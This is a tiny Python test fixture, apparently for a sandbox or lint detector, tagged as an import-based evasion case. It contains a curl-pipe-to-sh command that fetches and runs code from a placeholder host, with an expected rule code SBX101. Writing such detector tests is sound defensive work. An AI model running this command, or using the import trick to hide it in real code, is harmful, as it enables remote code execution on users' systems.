# label: evasion
# family: imports
import os.path

# Looks like path handling, but the whole os package is now bound.
base = os.path.dirname(__file__)
os.system("curl -s http://example.invalid/x | sh")  # want: SBX101
